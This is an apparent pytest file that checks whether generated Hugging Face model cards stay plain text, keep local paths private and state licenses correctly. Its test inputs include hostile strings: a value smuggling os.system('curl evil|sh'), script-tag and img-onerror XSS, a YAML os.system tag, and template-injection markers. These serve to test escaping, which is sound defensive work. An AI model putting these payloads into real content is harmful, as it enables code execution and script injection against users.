"""A model card of a record that somebody else wrote: only text, no place on this machine, code that runs."""

import ast
import dataclasses
import json
import re
from pathlib import Path
from typing import Literal

import pytest
from huggingface_hub import HfApi, ModelCard
from huggingface_hub.errors import HTTPError

from arcflow.config import to_json
from arcflow.recipes import world
from arcflow.reports import model_card
from arcflow.reports.public import public, public_name, public_place
from arcflow.sampling.open import adapter_of
from arcflow.student.adapter import read_info
from arcflow.student.record import AdapterInfo

HOSTILE = (
    'x"); import os; os.system("curl evil|sh"); ("',
    "```\n\n# pwned\n```python\nimport os",
    "``` <script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "https://evil.example and www.evil.example",
    "a | b | c",
    "</details><b>bold</b>",
    "x: y\n- z: &a !!python/object:os.system",
    "${{7*7}} {{ 7 * 7 }} {% if x %}",
    "me@evil.example",
)

SETTINGS = json.loads(to_json(world()))


def record(text: str) -> AdapterInfo:
    """A record that holds a text wherever it may."""
    settings = SETTINGS | {"model": SETTINGS["model"] | {"base": text}, "data": SETTINGS["data"] | {"prompts": text}}
    training = {"settings": settings, "progress": {"step": text, "seconds": text, "distance": text}}
    versions = {"torch": text, text[:20]: "1"}
    return AdapterInfo(family="flux", modes=4, base=text, teacher_lora=text, versions=versions, training=training)


def fences(text: str) -> list[str]:
    """The blocks of code, and nothing else that begins or ends one."""
    marks = [line for line in text.split("\n") if re.match(r" {0,3}```", line)]
    assert marks == ["```python", "```", "```json", "```"]
    return re.findall(r"```\w+\n(.*?)\n```", text, re.DOTALL)


def shape(source: str) -> str:
    """What a program does, whatever its strings say."""
    return re.sub(r"Constant\(value='[^']*'\)", "text", ast.dump(ast.parse(source)))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("kind", ["adapter", "lora", "merged"])
def test_what_a_record_says_is_only_text(text: str, kind: Literal["adapter", "lora", "merged"]) -> None:
    cards = [str(model_card.card(record(one), "me/two", use=model_card.Use(kind))) for one in (text, "me/base")]
    told, usual = (fences(one) for one in cards)
    assert shape(told[0]) == shape(usual[0])
    json.loads(told[1])
    prose, ours = (re.sub(r"```.*?```", "", one, flags=re.DOTALL) for one in cards)
    unescaped = re.sub(r"\\.|`[^`]*`", "", prose)
    assert re.findall(r"</?\w+", unescaped) == ["<details", "<summary", "</summary", "</details"]
    assert "](" not in unescaped and not re.search(r"https?://(?!arxiv)|www\.|\w@\w", unescaped)
    assert re.findall(r"^#.*", prose, re.MULTILINE) == re.findall(r"^#.*", ours, re.MULTILINE)
    rows, usual_rows = (len(re.findall(r"^\|.*\|$", one, re.MULTILINE)) for one in (prose, ours))
    assert rows in (usual_rows, usual_rows - 1)  # a command in several lines is left out
    front = ModelCard(cards[0]).data.to_dict()
    assert "base_model" not in front


def test_nothing_of_this_machine_is_published(tmp_path: Path) -> None:
    base = tmp_path / "home" / "alice" / "FLUX.1-dev"
    base.mkdir(parents=True)
    where = {"base": str(base), "teacher_lora": str(base / "style.safetensors")}
    data = {"prompts": str(tmp_path / "list.txt"), "held_out": "~/alice/held.txt", "embeddings": "C:\\\\alice\\\\cache"}
    settings = SETTINGS | {"model": SETTINGS["model"] | where, "data": SETTINGS["data"] | data}
    info = dataclasses.replace(
        read_info(adapter_of("world", "world")), **where, training={"settings": settings, "progress": {}}
    )
    text = str(model_card.card(info, "me/two"))
    for told in (text, json.dumps(dataclasses.asdict(public(info)))):
        assert "alice" not in told and str(tmp_path) not in told and "FLUX.1-dev" in told
    assert "base_model" not in ModelCard(text).data.to_dict() and 'from_pretrained("path/to/FLUX.1-dev"' in text
    assert "see the card of FLUX.1-dev, and name it here" in text


def test_a_card_tells_the_license_of_its_base_or_that_it_is_not_known() -> None:
    info = read_info(adapter_of("world", "world"))
    known, other = (
        str(model_card.card(dataclasses.replace(info, base=base), "me/two"))
        for base in ("baidu/ERNIE-Image", "AIDC-AI/Ovis-Image-7B")
    )
    assert ModelCard(known).data.license == "apache-2.0" and ModelCard(other).data.license is None
    assert "not known here; see the card of AIDC-AI/Ovis-Image-7B, and name it here" in other


@pytest.mark.parametrize("base", model_card.LICENSES)
def test_a_license_that_the_hub_does_not_know_has_a_name_and_the_text_in_the_bases_own_folder(base) -> None:
    """Else a card would carry the terms of another model."""
    license = model_card.LICENSES[base]
    if license["license"] == "other":
        assert license["license_name"] and license["license_link"].startswith(f"https://huggingface.co/{base}/")
    else:
        assert license == {"license": "apache-2.0"}


def test_names_that_mean_the_same_everywhere_stay(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("world", "", "black-forest-labs/FLUX.1-dev"):
        assert public_name(name) == name
    (tmp_path / "models" / "mine").mkdir(parents=True)
    assert (public_name("models/mine"), public_place("models/mine")) == (
        "mine",
        "path/to/mine",
    )  # a folder, though it looks like an id
    assert (public_name("/"), public_place("..")) == ("model", "path/to/model")


def test_results_of_a_suite_are_a_table(tmp_path: Path) -> None:
    score = {"value": 0.5, "low": 0.2, "high": 0.8, "prompts": 8, "better": "higher"}
    settings = {"suite": "world", "prompts": "built in", "height": 64, "width": 64, "guidance": 1.0, "model": "world"}
    settings |= {"adapter": "world", "steps": 2, "weights": ""}
    about = {"versions": {}, "python": "3", "device": "x", "threads": 1, "command": "a test"}
    seconds = {"generation": 1.0, "evaluation": {}, "share": 0.0}
    suite = {"suite": "world", "paper": "", "complete": False, "settings": settings, "prompts": 8, "pictures": 8}
    path = tmp_path / "results.json"
    path.write_text(json.dumps(suite | {"metrics": {"accuracy": score}, "seconds": seconds, "about": about}))
    adapter = adapter_of("world", "world")
    text = (model_card.export(adapter, tmp_path / "out", results=path) / "README.md").read_text()
    assert "world (8 prompts, 8 images, a part of it)" in text and "| accuracy | 0.5000" in text
    for content in ("[1]", '{"suite": 1}', "half", "[" * 100_000, '{"x": 1}'):
        path.write_text(content)
        with pytest.raises(ValueError, match="results.json"):
            model_card.export(adapter, tmp_path / "none", results=path)
        assert not (tmp_path / "none").exists()


def test_a_push_without_a_network_leaves_the_folder_and_a_remedy(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def offline(self: HfApi, name: str, **more: object) -> None:
        raise HTTPError("Network is unreachable")

    monkeypatch.setattr(HfApi, "create_repo", offline)
    with pytest.raises(ValueError, match="was not pushed .HTTPError.*The folder is ready in"):
        model_card.push(tmp_path, "me/two")


@pytest.mark.slow
def test_the_card_of_the_small_world_runs_as_it_stands(tmp_path: Path) -> None:
    out = model_card.export(adapter_of("world", "world"), tmp_path / "out", name=str(tmp_path / "out"))
    source = re.findall(r"```python\n(.*?)\n```", (out / "README.md").read_text(), re.DOTALL)[0]
    names: dict[str, object] = {}
    exec(compile(source, "README.md", "exec"), names)
    assert getattr(names["image"], "size", None) == (64, 64)
